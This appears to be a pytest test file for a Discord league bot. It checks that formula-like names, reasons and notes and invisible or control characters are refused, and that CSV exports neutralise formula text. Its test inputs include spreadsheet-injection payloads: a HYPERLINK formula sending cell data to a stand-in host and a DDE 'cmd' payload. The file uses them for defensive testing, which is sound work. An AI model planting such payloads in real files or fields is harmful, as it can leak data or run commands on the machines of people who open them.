"""Hostile text at the edges: a player named like a spreadsheet formula, names and
reasons of invisible or control characters, and what the exports make of the
formula-like text a league already holds. Over real services and a real SQLite
file; every refusal is one private message and changes nothing."""

from __future__ import annotations

import csv
import io
import re
from typing import Any

import pytest

from bot.services import membership, score_changes, scores
from bot.services.context import FORMULA_NAME
from bot.services.errors import BadInput
from cogs.exports import exports
from cogs.exports.exports_text import csv_bytes, zip_bytes
from cogs.scorecards import scorecards_decisions
from tests.cogs.conftest import COMMISSIONER, FIRST_NIGHT, PLAYERS, at
from tests.cogs.fakes import APPROVALS, COMMISSIONER_ROLE, GUILD, FakeBot, FakeMember, FakeRole
from tests.cogs.league_play import lock, snapshot
from tests.cogs.test_commissioner_cog import TONIGHT, announced, private, run
from tests.cogs.test_exports_cog import played, tables
from tests.cogs.test_roster_import_cog import import_file, names

HYPERLINK = '=HYPERLINK("http://x.example/?"&A1,"Click")'
NOTHING = "has nothing in it that shows; type it again."
CONTROL = "has a control character in it; type it again."


def member(name: str) -> FakeMember:
    return FakeMember(800000000000000042, name)


@pytest.mark.parametrize(
    ("options", "message"),
    [
        ({"member": member(HYPERLINK)}, FORMULA_NAME),  # their display name
        ({"member": member("Zed"), "name": "+1+1"}, FORMULA_NAME),
        ({"member": member("Zed"), "name": "-2+3"}, FORMULA_NAME),
        ({"member": member("Zed"), "name": "@SUM(1+1)"}, FORMULA_NAME),
        ({"member": member("Zed"), "name": "\u200b=1+1"}, FORMULA_NAME),
        ({"member": member("\u200b\u200d\u2060")}, f"The player's name {NOTHING}"),
        ({"member": member("Zed"), "name": "\u3164"}, f"The player's name {NOTHING}"),
        ({"member": member("Zed"), "name": "Ann\x00"}, f"The player's name {CONTROL}"),
        ({"member": member("Zed"), "name": "Eve\u202eevil"},
         "The player's name has a character in it that turns the text's direction around; "
         "type it again."),
        ({"kind": "penalty", "week": 1, "player": "P1", "game": 1, "reason": "\u200b\u200b"},
         f"The reason {NOTHING}"),
        ({"kind": "penalty", "week": 1, "player": "P1", "game": 1, "reason": "tilt\x00"},
         f"The reason {CONTROL}"),
        ({"amount": "5", "note": "\u2063"}, f"The note {NOTHING}"),
    ],
)  # fmt: skip
async def test_hostile_names_and_reasons_are_refused_and_change_nothing(
    league: FakeBot, options: dict[str, Any], message: str
) -> None:
    bot = league
    command = (
        "player add" if "member" in options
        else "score change" if "kind" in options
        else "money fund"
    )  # fmt: skip
    await lock(bot)
    await scores.submit(bot.db, GUILD, PLAYERS[1].id, 1, 1000, now=TONIGHT)
    before = await snapshot(bot)
    posts = len(bot.channels[APPROVALS].sent)
    said = await run(bot, command, when=TONIGHT, **options)
    assert said.text == message
    assert [r.ephemeral for r in said.replies] == [True]
    assert await snapshot(bot) == before
    assert announced(bot) == [] and len(bot.channels[APPROVALS].sent) == posts


@pytest.mark.parametrize(
    "name", ["Zoë", "José Núñez", "👩\u200d👩\u200d👧 Family", "李小龍", "Mary-Jo"]
)
async def test_real_names_are_stored_as_typed(league: FakeBot, name: str) -> None:
    said = await run(league, "player add", member=member(name))
    assert said.text == f"{name} joined the league."
    assert (await names(league))[-1][0] == name


async def test_a_rejection_reason_that_shows_nothing_is_refused_on_the_card(
    league: FakeBot,
) -> None:
    bot = league
    await lock(bot)
    await scores.submit(bot.db, GUILD, PLAYERS[1].id, 1, 1000, now=TONIGHT)
    async with bot.db.read() as conn:
        ((card,),) = await conn.execute_fetchall("SELECT id FROM approval_cards")
        ((score,),) = await conn.execute_fetchall("SELECT max(id) FROM scores")
    before = await snapshot(bot)
    for reason, problem in (("\u200b\ufeff", NOTHING), ("a\x00b", CONTROL)):
        with pytest.raises(BadInput, match=re.escape(f"The reason {problem}")):
            await scorecards_decisions.reject(bot.db, GUILD, card, f"s{score}", reason,
                                        by=COMMISSIONER.id, now=TONIGHT)  # fmt: skip
    assert await snapshot(bot) == before
    assert bot.dms == {}  # the player was told nothing


async def test_a_roster_row_named_like_a_formula_refuses_the_file(league: FakeBot) -> None:
    bot = league
    before = await names(bot)
    data = (
        "name,discord,skill\r\n"
        "Zed,,4\r\n"
        "+1+1,,5\r\n"
        "'=1+1,,5\r\n"  # the way an export writes such a name: still a formula to refuse
        f"Yu,{1.57738e18:.5E},6\r\n"  # an id a spreadsheet turned into a number
        "\u200b,,3\r\n"
    ).encode()
    said = await import_file(bot, data)
    assert said.text.split("\n") == [
        "Nothing was imported; fix these rows and upload the file again:",
        f"row 3: {FORMULA_NAME}",
        f"row 4: {FORMULA_NAME}",
        "row 5: discord '1.57738E+18' was turned into a number by a spreadsheet; copy the "
        "<@id> from the export again",
        f"row 6: The player's name {NOTHING}",
    ]
    assert await names(bot) == before


NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?")


async def test_formula_like_text_a_league_holds_is_exported_as_text(league: FakeBot) -> None:
    """A name stored before names were checked, a commissioner's display name,
    a rejection's and a change's reason and a note: each comes out of every CSV
    with a leading ', and no other cell starts like a formula unless it is a
    number (a negative amount stays a number)."""
    bot = await played(league)
    async with bot.db.transaction() as conn:  # a league older than the name check
        await conn.execute("UPDATE players SET name = ? WHERE name = 'P3'", ("=1+1",))
    formula_koi = FakeMember(COMMISSIONER.id, HYPERLINK, [FakeRole(COMMISSIONER_ROLE)])
    said = await run(bot, "money fund", user=formula_koi, when=at(FIRST_NIGHT, "23:30"),
                     amount="5", note="+1+1")  # fmt: skip
    assert private(said)
    await score_changes.change(bot.db, GUILD, week=2, player_name="P2", game_number=3,
                               kind="correction", reason="@SUM(1+1)", new_score=199_000_000,
                               by=COMMISSIONER.id, now=at(FIRST_NIGHT, "23:40"))  # fmt: skip
    done = await exports.export_season(bot.db, GUILD)
    found = tables(zip_bytes(done))

    assert {r["name"] for r in found["players"]} >= {"'=1+1"}
    fund = next(r for r in found["money"] if r["kind"] == "fund addition")
    assert (fund["note"], fund["by"]) == ("'+1+1", f"'{HYPERLINK}")
    assert [r["reason"] for r in found["audit"]] == ["typo", "'@SUM(1+1)"]
    assert {r["player"] for r in found["results"]} >= {"'=1+1"}
    for name, rows in found.items():
        for row in rows:
            for column, value in row.items():
                if value and value[0] in "=+-@\t\r":
                    assert NUMBER.fullmatch(value), (name, column, value)
    for table in done.tables:  # every file opens in Excel with its accents right
        assert csv_bytes(table).startswith(b"\xef\xbb\xbf")


async def test_an_exported_roster_imports_again_with_its_discord_ids(league: FakeBot) -> None:
    """players.csv keeps Discord ids as text a spreadsheet cannot round (<@id>)
    and imports as it is into another league."""
    bot = await played(league)
    done = await exports.export_season(bot.db, GUILD)
    data = csv_bytes(done.table("players"))
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert [r["discord"] for r in rows] == [f"<@{PLAYERS[n].id}>" for n in range(1, 7)]
    async with bot.db.transaction() as conn:  # a fresh league: nobody is a player yet
        await conn.execute("UPDATE players SET removed_at = '2026-03-01T00:00:00+00:00'")
    said = await import_file(bot, data)
    assert said.text.startswith("Imported 6 players: P1, P2, P3, P4, P5, P6.")
    assert [(n, d) for n, d, _ in await names(bot)] == [
        (f"P{n}", PLAYERS[n].id) for n in range(1, 7)
    ]


async def test_setup_refuses_a_formula_name_from_the_service_too(league: FakeBot) -> None:
    with pytest.raises(BadInput, match=re.escape(FORMULA_NAME)):
        await membership.add_player(league.db, GUILD, "=cmd|'/C calc'!A0", discord_id=None,
                                    now=TONIGHT)  # fmt: skip
